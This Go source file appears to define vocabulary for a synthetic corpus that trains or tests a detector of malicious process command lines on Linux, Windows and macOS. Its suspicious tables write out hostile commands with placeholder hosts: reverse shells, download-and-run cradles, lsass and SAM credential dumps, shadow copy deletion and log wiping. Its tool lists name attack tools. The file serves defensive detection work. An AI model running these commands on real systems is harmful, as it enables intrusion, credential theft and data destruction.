package detector

// The vocabulary of the corpus. In the tables of commands a line is
// PARENT > EXECUTABLE ARGUMENTS, words are separated by spaces, double quotes
// make one word of several, and {NAME} is a slot. In the tables of parents the
// first word is the name by which the others refer to the line.

// corpusSlots are the variable parts of texts; corpusSource.slot makes others.
var corpusSlots = map[string][]string{
	"host": {"amber-web-1", "amber-web-2", "birch-db-1", "cedar-ci-4", "delta-node-7", "elm-desk-12", "fjord-mail-1", "grove-lap-33"},
	"pkg":  {"libxml2", "nginx", "openssl", "postgresql-client", "python3-venv", "redis-tools", "tzdata", "vim-runtime"},
	"dir":  {"billing", "frontend", "ledger-api", "orders", "search-indexer", "shop", "tools/reporting", "warehouse"},
	"file": {"archive.tar.gz", "config.yaml", "export.csv", "main.py", "notes.txt", "report.pdf", "server.js", "settings.ini"},
	"unit": {"billing.service", "logrotate.timer", "nginx.service", "orders-worker.service", "sshd.service", "telemetry.service"},
	"img":  {"registry.example.net/shop/web:4.2", "registry.example.net/tools/lint:latest", "postgres:16", "redis:7-alpine"},
	"url":  {"https://api.example.net/v2/orders/", "https://cdn.example.org/assets/app.js", "http://10.20.0.15:8080/healthz", "https://mirror.example.com/pool/main/"},
	"br":   {"main", "feature/invoice-totals", "release/4.2", "fix/login-loop"},
}

var corpusSystems = []*corpusSystem{
	{
		name: "linux", slash: "/", share: 50, bin: "/usr/bin/",
		styles: [corpusStyles]int{styleRich: 35, styleVendor: 35, styleAudit: 30},
		users:  "root root root root ada boris deploy jenkins postgres svc-backup www-data",
		shells: "bash dash sh zsh ksh fish tcsh csh mksh busybox",
		lairs: `/tmp/ /var/tmp/ /dev/shm/ /run/user/1000/ /var/www/html/uploads/ /home/{user}/.cache/ /opt/.x/ ./ /boot/ /var/run/
			/lost+found/ /var/mail/ /usr/games/ /mnt/`,
		tools: `arp-scan at atq awk bettercap bore busybox capsh chattr chisel crackmapexec crictl ctr dnscat dsniff dumpcap enum4linux
			ettercap ffuf fierce fping frp gdb getcap gobuster gost gs-netcat hashcat hping3 hydra insmod iodine john kerbrute kmod
			kubectl-exec ligolo linpeas.sh lse.sh lua masscan medusa mimipenguin modprobe msfconsole nbtscan ncat ncrack netcat
			nikto nmap nsenter onesixtyone openvpn patator perl php pkexec pnscan proxychains4 pspy64 pwncat rathole recon-ng
			responder ruby runc setcap setfacl socat sqlmap sshpass sshuttle sslscan strace tclsh tcpdump theharvester traitor tshark
			unix-privesc-check unshare useradd usermod visudo wfuzz xmrig xxd zgrab2 zmap`,
		flags: `-sS -p- -lvnp --pid=host -oG --top-ports /etc/shadow /etc/passwd /root/.ssh/authorized_keys --script -e /proc/kallsyms
			--donate-level stratum+tcp://pool.example.org:3333 /etc/ld.so.preload --setuid +s 4755 /dev/mem .aws/credentials
			socks5://127.0.0.1:1080 id_rsa /var/run/docker.sock --connect-back --no-preserve-root /etc/sudoers.d/ +i -rf
			/var/log/wtmp cap_setuid+ep --mount=/proc/1/ns/mnt /proc/self/environ LD_PRELOAD=/tmp/libx.so`,
		parents: `
systemd > /usr/lib/systemd/systemd --switched-root --system --deserialize=31
init > /sbin/init splash
cron > /usr/sbin/cron -f -P
sh > /usr/bin/sh -c "/usr/share/{dir}/run.sh --quiet --id {n}"
bash > /usr/bin/bash -l
dash > /usr/bin/dash /opt/{dir}/hooks/post-update {n}
zsh > /usr/bin/zsh -i
sshd > /usr/sbin/sshd -D -R
sudo > /usr/bin/sudo -n -u {user} /usr/local/bin/{dir}.sh
apt > /usr/bin/apt-get -y upgrade
dpkg > /usr/bin/dpkg --status-fd 23 --no-triggers --unpack --auto-deconfigure
containerd > /usr/bin/containerd-shim-runc-v2 -namespace moby -id {hex} -address /run/containerd/containerd.sock
kubelet > /usr/bin/kubelet --config=/var/lib/kubelet/config.yaml
python > /usr/bin/python3.11 /srv/{dir}/{file}
node > /usr/bin/node /srv/{dir}/server.js
java > /usr/lib/jvm/java-17/bin/java -Xmx2g -jar /opt/jenkins/jenkins.war
nginx > /usr/sbin/nginx -g "daemon off;"
git > /usr/bin/git fetch --prune origin
make > /usr/bin/make -j4 all
postgres > /usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main`,
		usual: `
systemd > /usr/lib/systemd/systemd-networkd-wait-online --timeout=30 --interface=eth0
systemd > /usr/lib/systemd/systemd-userwork "xxxxxxxxxxxxxxxx"
systemd > /usr/lib/systemd/systemd-timedated
systemd > /usr/bin/systemd-tmpfiles --clean
systemd > /usr/bin/systemctl --system start {unit}
systemd > /usr/sbin/logrotate /etc/logrotate.conf
systemd > /usr/lib/apt/apt.systemd.daily install
systemd > /usr/bin/fwupdmgr refresh --quiet
systemd > /usr/bin/dbus-daemon --session --address=systemd: --nofork --nopidfile
systemd > /usr/sbin/sshd -D
cron > /bin/sh -c "cd / && run-parts --report /etc/cron.hourly"
cron > /bin/sh -c "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean"
cron > /bin/sh -c "/usr/local/bin/backup.sh --target /srv/backup/{host} --keep 14"
cron > /bin/bash /opt/{dir}/bin/nightly.sh {n}
sh > /usr/bin/run-parts --report /etc/cron.hourly
sh > /usr/bin/find /var/www/{dir}/cache -name "*.html" -mmin +30 -delete
sh > /usr/bin/grep -q {pkg} /var/lib/dpkg/status
sh > /usr/bin/sed -n "s/^version: //p" /srv/{dir}/config.yaml
sh > /usr/bin/cut -d: -f2
sh > /usr/bin/date +%s
sh > /usr/bin/mkdir -p /var/lib/{dir}/{n}
sh > /usr/bin/rm -f /tmp/{hex}.lock
sh > /usr/bin/ps -ef
sh > /usr/bin/awk "NR==2" /proc/net/dev
sh > /usr/bin/stat -c %Y /srv/{dir}/{file}
dash > /usr/bin/chown {user}:{user} /srv/{dir}
dash > /usr/bin/chmod 0640 /srv/{dir}/{file}
sshd > /usr/sbin/sshd -D -R
sshd > /bin/bash -c "cat /proc/loadavg"
sshd > /usr/bin/scp -t /srv/{dir}/{file}
bash > /usr/bin/ls --color=auto -la /srv/{dir}
bash > /usr/bin/cat /srv/{dir}/{file}
bash > /usr/bin/vim /home/{user}/{dir}/{file}
bash > /usr/bin/ssh -o BatchMode=yes {user}@{host} uptime
bash > /usr/bin/git status --short
bash > /usr/bin/git commit -m "Round totals once ({n})"
bash > /usr/bin/git push origin {br}
bash > /usr/bin/sudo systemctl restart {unit}
bash > /usr/bin/tail -n 200 -f /var/log/{dir}/app.log
bash > /usr/bin/make -j4 test
bash > /usr/bin/docker ps --all --no-trunc
bash > /usr/bin/docker run --rm -v /home/{user}/{dir}:/src {img} lint
bash > /usr/bin/docker exec {hex} sh -c "pg_isready -U {user}"
bash > /usr/local/bin/kubectl get pods -n {dir} -o wide
bash > /usr/local/bin/kubectl logs -f deploy/{dir} --since=10m
bash > /usr/local/bin/helm upgrade --install {dir} ./chart --namespace prod
bash > /usr/bin/curl -sSf {url}
bash > /usr/bin/wget -q -O /tmp/{hex}.deb {url}
zsh > /usr/bin/tmux attach -t {n}
sudo > /usr/bin/systemctl restart {unit}
sudo > /usr/bin/apt-get -y install {pkg}
apt > /usr/bin/dpkg --status-fd 23 --configure --pending
apt > /usr/lib/apt/methods/https
dpkg > /bin/sh /var/lib/dpkg/info/{pkg}.postinst configure {n}
dpkg > /usr/bin/dpkg-deb --field /var/cache/apt/archives/{pkg}.deb
git > /usr/lib/git-core/git rev-list --objects --stdin --not --all --quiet
git > /usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@git.example.net "git-upload-pack '{dir}.git'"
make > /usr/bin/gcc -O2 -Wall -c src/{dir}.c -o build/{hex}.o
make > /usr/bin/ld -dynamic-linker /lib64/ld-linux-x86-64.so.2 -o build/{dir}
containerd > /usr/bin/runc --root /var/run/docker/runtime-runc/moby --log-format json exec --process /tmp/runc-process{n} {hex}
containerd > /usr/sbin/nginx -g "daemon off;"
containerd > /bin/sh -c "node /app/server.js --port {n}"
kubelet > /usr/bin/mount -t tmpfs -o size=67108864 tmpfs /var/lib/kubelet/pods/{guid}/volumes
kubelet > /usr/sbin/iptables -w 5 -W 100000 -S KUBE-KUBELET-CANARY -t mangle
python > /usr/bin/python3.11 -m pip install --no-cache-dir -r /srv/{dir}/requirements.txt
python > /usr/bin/uname -rs
python > /sbin/ldconfig -p
node > /usr/bin/node /srv/{dir}/node_modules/.bin/webpack --mode production
node > /bin/sh -c "npm run build --workspace {dir}"
java > /usr/bin/git ls-remote --heads https://git.example.net/{dir}.git
java > /bin/sh -xe /tmp/jenkins{n}.sh
nginx > /usr/bin/openssl x509 -noout -enddate -in /etc/ssl/{host}.pem
postgres > /usr/bin/pgbackrest --stanza={dir} archive-push pg_wal/{hex}
init > /usr/sbin/zabbix_agentd --foreground -c /etc/zabbix/zabbix_agentd.conf`,
		suspicious: `
bash > /usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{host}
python > /usr/bin/wget -qO- http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
nginx > /bin/sh -c "bash -i >& /dev/tcp/{ip}/4444 0>&1"
sh > /usr/bin/bash -c "curl -fsSL http://{ip}/x.sh | bash"
bash > /usr/bin/nc -e /bin/sh {ip} 4444
bash > /usr/bin/base64 -d /tmp/.{hex}
bash > /usr/bin/chattr +i /root/.ssh/authorized_keys
bash > /usr/bin/crontab -u {user} /tmp/{hex}
cron > /dev/shm/kworkerd --algo rx/0 -o stratum+tcp://pool.example.org:3333
bash > /usr/bin/docker run --privileged -v /:/host {img} chroot /host
bash > /usr/bin/systemctl disable --now firewalld
bash > /usr/sbin/useradd -o -u 0 -g 0 {user}
bash > /usr/sbin/insmod /tmp/{hex}.ko
sudo > /usr/bin/find / -perm -4000 -type f
bash > /usr/bin/shred -u /var/log/auth.log
bash > /usr/bin/ssh -R 2222:localhost:22 -N {user}@{ip}
java > /usr/bin/whoami
node > /usr/bin/id
bash > /usr/local/bin/kubectl exec -it {dir} -- /bin/bash
bash > /usr/bin/python3.11 -c "import pty;pty.spawn('/bin/bash')"
bash > /usr/bin/openssl enc -aes-256-cbc -in /srv/{dir} -out /srv/{hex}.locked
bash > /usr/bin/tar czf /tmp/{hex}.tgz /etc/shadow /home/{user}/.ssh/id_rsa
bash > /usr/bin/touch -r /bin/ls /usr/local/bin/.{hex}
bash > /usr/sbin/setenforce 0`,
		apps: `
/opt/{made}/bin/*
/opt/{made}/agent/{made}
/usr/lib/{made}/*
/usr/libexec/{made}-helper
/snap/{made}/*/usr/bin/{made}
/usr/local/{made}/*/bin/{made}d
/var/lib/{made}/plugins/*
/home/*/.{made}-server/*
/usr/share/{made}/scripts/{made}.sh`,
	},
	{
		name: "windows", slash: `\`, share: 30, bin: `C:\Windows\System32\`,
		styles: [corpusStyles]int{styleRich: 25, styleVendor: 25, styleJournal: 50},
		users:  "SYSTEM SYSTEM SYSTEM ada.brandt boris.klein carla.moreno edith.frost lukas.vogt svc-backup svc-sql",
		shells: "cmd.exe powershell.exe pwsh.exe wscript.exe cscript.exe mshta.exe rundll32.exe explorer.exe winword.exe excel.exe",
		lairs: `C:\Users\Public\ C:\Windows\Temp\ C:\ProgramData\ C:\Users\{user}\AppData\Local\Temp\ C:\Users\{user}\Downloads\ C:\PerfLogs\
			C:\Intel\ C:\Recovery\ C:\Windows\Tasks\ C:\Windows\Debug\ C:\$Recycle.Bin\ C:\Windows\Fonts\ C:\Temp\`,
		tools: `AdExplorer.exe AdFind.exe advanced_ip_scanner.exe arp.exe atbroker.exe auditpol.exe bginfo.exe bloodhound.exe cdb.exe cmstp.exe
			control.exe csc.exe cscript.exe dsquery.exe esentutl.exe expand.exe extrac32.exe finger.exe fltMC.exe forfiles.exe fsutil.exe
			hh.exe icacls.exe ieexec.exe InfDefaultInstall.exe InstallUtil.exe makecab.exe mavinject.exe Microsoft.Workflow.Compiler.exe
			mimikatz.exe MSBuild.exe msdt.exe mshta.exe msxsl.exe netsh.exe ngrok.exe nltest.exe odbcconf.exe pcalua.exe plink.exe
			PresentationHost.exe procdump.exe PsExec.exe quser.exe rar.exe rclone.exe RegAsm.exe RegSvcs.exe regsvr32.exe rubeus.exe sc.exe
			scrcons.exe sdelete.exe seatbelt.exe SharpHound.exe systeminfo.exe tracker.exe tscon.exe vaultcmd.exe wbadmin.exe wevtutil.exe
			winrs.exe wscript.exe wsmprovhost.exe xwizard.exe`,
		flags: `-accepteula -ma /delete -encodedCommand -nop lsass.exe lsass.dmp /i:http* scrobj.dll -urlcache -verifyctl /transfer
			sekurlsa::logonpasswords privilege::debug /domain_trusts add HKLM\SYSTEM\CurrentControlSet\Control\Lsa cl set-log sl stop obj=
			binPath= /create kerberoast /ticket:* firewall portproxy dump ifm -CollectionMethod delete catalog recoveryenabled
			bootstatuspolicy C:\Windows\Temp\out.dat \\127.0.0.1\ADMIN$ /s /u ZZZ DisableRealtimeMonitoring`,
		parents: `
services.exe > C:\Windows\System32\services.exe
svchost.exe > C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule
explorer.exe > C:\Windows\explorer.exe
cmd.exe > C:\Windows\System32\cmd.exe /c C:\Scripts\{dir}.cmd
powershell.exe > C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoProfile -File C:\Scripts\{dir}.ps1
wininit.exe > C:\Windows\System32\wininit.exe
winlogon.exe > C:\Windows\System32\winlogon.exe
smss.exe > C:\Windows\System32\smss.exe
msiexec.exe > C:\Windows\System32\msiexec.exe /V
chrome.exe > "C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default
winword.exe > "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n C:\Users\{user}\Documents\{file}
excel.exe > "C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" C:\Users\{user}\Documents\{file}
w3wp.exe > C:\Windows\System32\inetsrv\w3wp.exe -ap DefaultAppPool -v v4.0
wmiprvse.exe > C:\Windows\System32\wbem\WmiPrvSE.exe -secured -Embedding
wscript.exe > C:\Windows\System32\wscript.exe C:\Users\{user}\Downloads\{hex}.js
code.exe > "C:\Program Files\Microsoft VS Code\Code.exe" --type=utility
agent.exe > "C:\Program Files\Larkspur Management\agent.exe" --service`,
		usual: `
services.exe > C:\Windows\System32\svchost.exe -k netsvcs -p -s Appinfo
services.exe > C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p
services.exe > C:\Windows\System32\svchost.exe -k wsappx -p -s ClipSVC
services.exe > C:\Windows\servicing\TrustedInstaller.exe
services.exe > C:\Windows\System32\msiexec.exe /V
services.exe > "C:\Program Files\Larkspur Management\agent.exe" --service
svchost.exe > C:\Windows\System32\taskhostw.exe Install {guid}
svchost.exe > C:\Windows\System32\RuntimeBroker.exe -Embedding
svchost.exe > C:\Windows\System32\dllhost.exe /Processid:{guid}
svchost.exe > C:\Windows\System32\backgroundTaskHost.exe -ServerName:App.AppX{hex}.mca
svchost.exe > C:\Windows\System32\wbem\WmiPrvSE.exe -secured -Embedding
svchost.exe > C:\Windows\System32\wuauclt.exe /RunHandlerComServer
svchost.exe > C:\Windows\System32\MoUsoCoreWorker.exe -Embedding
svchost.exe > C:\Windows\System32\rundll32.exe C:\Windows\System32\PcaSvc.dll,PcaPatchSdbTask
svchost.exe > C:\Windows\System32\cmd.exe /c C:\Scripts\inventory-{n}.cmd
svchost.exe > C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoProfile -NonInteractive -File C:\Scripts\{dir}.ps1
svchost.exe > C:\Windows\System32\consent.exe {n} 372 000001F5{hex}
explorer.exe > C:\Windows\System32\notepad.exe C:\Users\{user}\Documents\{file}
explorer.exe > "C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default
explorer.exe > "C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle
explorer.exe > "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n C:\Users\{user}\Documents\{file}
explorer.exe > C:\Windows\System32\mmc.exe C:\Windows\System32\services.msc
explorer.exe > C:\Windows\System32\cmd.exe
explorer.exe > C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe --processStart Teams.exe
chrome.exe > "C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle={n} --lang=en-GB --renderer-client-id={n}
chrome.exe > "C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process --no-sandbox --mojo-platform-channel-handle={n}
cmd.exe > C:\Windows\System32\conhost.exe 0xffffffff -ForceV1
cmd.exe > C:\Windows\System32\net.exe use Z: \\{host}\{dir} /persistent:no
cmd.exe > C:\Windows\System32\reg.exe query HKLM\SOFTWARE\Larkspur\{guid} /v InstallDate
cmd.exe > C:\Windows\System32\schtasks.exe /query /fo LIST /tn Larkspur\{dir}
cmd.exe > C:\Windows\System32\wbem\WMIC.exe os get version /value
cmd.exe > C:\Windows\System32\ipconfig.exe /all
cmd.exe > C:\Windows\System32\findstr.exe /i {pkg} C:\Scripts\{file}
cmd.exe > C:\Windows\System32\PING.EXE -n 2 {host}
cmd.exe > C:\Windows\System32\tasklist.exe /fi "imagename eq agent.exe"
cmd.exe > C:\Windows\System32\xcopy.exe C:\Build\{dir} \\{host}\drop /e /y
powershell.exe > C:\Windows\System32\conhost.exe 0x4
powershell.exe > C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /noconfig /fullpaths @C:\Windows\Temp\{hex}.cmdline
powershell.exe > C:\Windows\System32\gpresult.exe /scope computer /r
msiexec.exe > C:\Windows\System32\msiexec.exe -Embedding {hex} E Global\MSI0000
wininit.exe > C:\Windows\System32\lsass.exe
winlogon.exe > C:\Windows\System32\LogonUI.exe /flags:0x2 /state0:0xa3b1a055
agent.exe > C:\Windows\System32\cmd.exe /c "wmic bios get serialnumber"
code.exe > "C:\Program Files\Git\cmd\git.exe" status -z -uall
w3wp.exe > C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /t:library /utf8output @C:\Windows\Temp\{hex}.cmdline`,
		suspicious: `
cmd.exe > C:\Windows\System32\vssadmin.exe delete shadows /all /quiet
cmd.exe > C:\Windows\System32\wbem\WMIC.exe shadowcopy delete
cmd.exe > C:\Windows\System32\reg.exe save HKLM\SAM C:\Windows\Temp\{hex}.hiv
cmd.exe > C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Windows\Temp\{hex}.dmp full
winword.exe > C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -enc {hex}{hex}{hex}{hex}
excel.exe > C:\Windows\System32\cmd.exe /c "certutil -urlcache -split -f http://{ip}/a.txt"
wscript.exe > C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://{ip}/a')"
cmd.exe > C:\Windows\System32\certutil.exe -urlcache -split -f http://{ip}/{hex}.exe
cmd.exe > C:\Windows\System32\bitsadmin.exe /transfer {n} /download http://{ip}/x C:\Users\Public\x.exe
explorer.exe > C:\Windows\System32\mshta.exe http://{ip}/{hex}.hta
cmd.exe > C:\Windows\System32\regsvr32.exe /s /n /u /i:http://{ip}/x.sct scrobj.dll
cmd.exe > C:\Windows\System32\schtasks.exe /create /sc minute /mo 5 /tn {hex} /tr C:\Users\Public\{hex}.exe
cmd.exe > C:\Windows\System32\net.exe user {hex} P@ss{n} /add
cmd.exe > C:\Windows\System32\net1.exe localgroup administrators {user} /add
w3wp.exe > C:\Windows\System32\cmd.exe /c whoami
cmd.exe > C:\Windows\System32\whoami.exe /priv
cmd.exe > C:\Windows\System32\nltest.exe /domain_trusts
cmd.exe > C:\Windows\System32\wevtutil.exe cl Security
cmd.exe > C:\Windows\System32\bcdedit.exe /set recoveryenabled no
wmiprvse.exe > C:\Windows\System32\cmd.exe /Q /c "cd \ 1> \\127.0.0.1\ADMIN$\__{n} 2>&1"
powershell.exe > C:\Windows\System32\netsh.exe advfirewall set allprofiles state off
cmd.exe > C:\Users\Public\procdump.exe -accepteula -ma lsass.exe C:\Users\Public\{hex}.dmp`,
		apps: `
C:\Program Files\{made}\*
C:\Program Files (x86)\{made}\*\{made}.exe
C:\Program Files\{made}\{made}.exe
C:\ProgramData\{made}\agent\*.exe
C:\Windows\System32\{made}.exe
C:\Windows\CCM\{made}.exe
C:\Users\*\AppData\Local\{made}\app-*\{made}.exe
C:\Windows\Temp\{made}-*\setup.exe`,
	},
	{
		name: "macos", slash: "/", share: 20, bin: "/usr/bin/",
		styles: [corpusStyles]int{styleRich: 50, styleVendor: 50},
		users:  "root root ada boris carla edith maren",
		shells: "bash sh zsh dash ksh csh tcsh fish osascript Terminal",
		lairs:  `/tmp/ /private/tmp/ /Users/Shared/ /Users/{user}/Downloads/ /Volumes/Installer/ /private/var/folders/zz/T/ /var/tmp/`,
		tools: `chainbreaker csrutil dscacheutil dsconfigad dsenableroot fdesetup hdiutil ioreg kextload kickstart launchctl nscurl nvram pbpaste
			perl php pmset profiles python ruby screencapture scutil sfltool spctl sqlite3 ssh-keygen sw_vers swift swiftc sysadminctl
			system_profiler systemsetup tccutil textutil tmutil xcrun zip`,
		flags: `-create /Users/Shared/* -nopassdev attach -nobrowse login.keychain-db --master-disable reset disable -c TCC.db -password load
			-setremotelogin PrimaryGroupID -i IOPlatformSerialNumber SPHardwareDataType hw.model -x`,
		parents: `
launchd > /sbin/launchd
zsh > /bin/zsh -il
bash > /bin/bash /Users/{user}/{dir}/build.sh
sh > /bin/sh -c "/usr/local/{dir}/collect.sh {n}"
Terminal > /System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal
xpcproxy > /usr/libexec/xpcproxy com.example.{made}
brew > /opt/homebrew/bin/brew update --auto-update
osascript > /usr/bin/osascript /Users/Shared/{hex}.scpt
Code > "/Applications/Visual Studio Code.app/Contents/MacOS/Electron" --type=extensionHost
jamf > /usr/local/jamf/bin/jamf policy -randomDelaySeconds 300`,
		usual: `
launchd > /usr/libexec/xpcproxy com.apple.mdworker.shared.{n}
launchd > /System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared -s mdworker -c MDSImporterWorker
launchd > /usr/libexec/trustd --agent
launchd > /usr/libexec/nsurlsessiond
launchd > /System/Library/PrivateFrameworks/TCC.framework/Support/tccd system
launchd > /Applications/Safari.app/Contents/MacOS/Safari
launchd > /usr/sbin/softwareupdate --background
launchd > /usr/local/jamf/bin/jamf policy -randomDelaySeconds 300
xpcproxy > /System/Library/CoreServices/ReportCrash agent
xpcproxy > /usr/libexec/containermanagerd --runmode=agent
zsh > /bin/ls -lG /Users/{user}/{dir}
zsh > /usr/bin/git status --porcelain=v2 --branch
zsh > /opt/homebrew/bin/brew install {pkg}
zsh > /usr/bin/ssh {user}@{host}
zsh > /usr/bin/curl -fsSL {url}
zsh > /usr/bin/open -a Safari {url}
zsh > /usr/local/bin/docker compose up -d {dir}
zsh > /opt/homebrew/bin/node /Users/{user}/{dir}/node_modules/.bin/vite --port {n}
zsh > /opt/homebrew/bin/python3 -m pytest -q tests/{dir}
bash > /usr/bin/sed -i "" s/debug/info/ {file}
bash > /usr/bin/defaults read com.example.{dir} version
sh > /usr/sbin/sysctl -n kern.boottime
sh > /bin/ps -axo pid,ppid,comm
sh > /usr/bin/stat -f %m /Users/{user}/{file}
jamf > /usr/bin/osascript -e "display notification 'Updates in {n} minutes'"
jamf > /usr/bin/defaults write /Library/Preferences/com.example.{dir} LastRun -int {n}
jamf > /usr/sbin/system_profiler SPSoftwareDataType -xml
Code > /usr/bin/git -C /Users/{user}/{dir} fetch origin {br}
brew > /usr/bin/curl --disable --location --silent --etag-save /tmp/{hex} {url}
brew > /opt/homebrew/Library/Homebrew/shims/shared/git --version`,
		suspicious: `
Terminal > /usr/bin/osascript -e "display dialog 'System update' default answer '' with hidden answer"
zsh > /usr/bin/security find-generic-password -wa Chrome
bash > /usr/bin/xattr -d com.apple.quarantine /Users/Shared/{hex}.app
bash > /usr/bin/dscl . -create /Users/{hex} IsHidden 1
bash > /bin/launchctl load -w /Users/{user}/Library/LaunchAgents/com.{hex}.plist
osascript > /bin/sh -c "curl -s http://{ip}/p | bash"
bash > /usr/sbin/spctl --master-disable
bash > /usr/bin/sqlite3 /Users/{user}/Library/Cookies/Cookies.binarycookies "select * from cookies"
sh > /usr/bin/ditto -c -k /Users/{user}/Library/Keychains /tmp/{hex}.zip
bash > /usr/sbin/screencapture -x /tmp/{hex}.png
zsh > /usr/bin/curl -s http://169.254.169.254/latest/api/token -X PUT
bash > /usr/bin/csrutil disable`,
		apps: `
/Applications/{made}.app/Contents/MacOS/{made}
/Library/Application Support/{made}/*
/usr/local/{made}/bin/*
/opt/homebrew/Cellar/{made}/*/bin/{made}
/Library/PrivilegedHelperTools/com.{made}.*
/System/Library/PrivateFrameworks/{made}.framework/*`,
	},
}
